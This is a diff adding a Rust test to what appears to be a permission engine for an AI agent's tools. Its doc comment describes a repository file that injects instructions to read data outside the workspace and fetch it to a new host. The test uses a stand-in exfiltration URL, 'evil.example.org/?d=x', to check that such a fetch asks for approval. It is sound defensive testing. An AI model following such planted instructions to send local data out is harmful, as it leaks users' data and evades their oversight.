@@ -479,3 +479,31 @@ fn where_the_daemons_sockets_stay_reachable_a_daemon_client_is_asked_even_in_aut
     let hidden = engine(&[], &[], &[], Mode::Auto).with_sandbox(true);
     assert_eq!(decide(&hidden, "terminal", json!({"command": "docker ps"}), false), D::Allow);
 }
+
+/// A repository file tells the model to read something outside the workspace and fetch it to a
+/// new host: in auto mode the read runs, and the fetch then asks (once per host), unless the user
+/// named the host, it is a documentation host, or a rule allows it.
+#[test]
+fn after_an_outside_read_a_fetch_to_a_new_host_asks_in_auto_mode() {
+    let e = engine(&[], &[], &[], Mode::Auto);
+    let fetch = |url: &str| decide(&e, "web_fetch", json!({ "url": url }), true);
+    // Before anything came from outside, auto fetches as it always did.
+    assert_eq!(fetch("https://first.example.net/"), D::Allow);
+    assert_eq!(fetch("https://second.example.net/"), D::Ask, "after a page from a host nobody named");
+    let e = engine(&["web_fetch(allowed.example)"], &[], &[], Mode::Auto);
+    e.note_user_text("summarise https://blog.user-named.dev/post for me");
+    let fetch = |url: &str| decide(&e, "web_fetch", json!({ "url": url }), true);
+    assert_eq!(fetch("https://blog.user-named.dev/post"), D::Allow);
+    assert!(e.outside_content().is_none(), "a page the user named is not outside content");
+    assert_eq!(decide(&e, "read_file", json!({"path": "/etc/hostname"}), true), D::Allow);
+    assert!(e.outside_content().is_some_and(|w| w.contains("/etc/hostname")));
+    assert_eq!(fetch("https://evil.example.org/?d=x"), D::Ask);
+    assert_eq!(fetch("https://docs.rs/tokio"), D::Allow);
+    assert_eq!(fetch("https://allowed.example/x"), D::Allow);
+    assert_eq!(fetch("https://cdn.user-named.dev/x"), D::Allow, "under a domain the user named");
+    // Asked once per host: a yes covers the host for the session.
+    let m = meta("web_fetch");
+    let input = json!({"url": "https://evil.example.org/"});
+    e.remember(&query("web_fetch", &input, &m), &ApprovalDecision::Allow);
+    assert_eq!(fetch("https://evil.example.org/other"), D::Allow);
+}
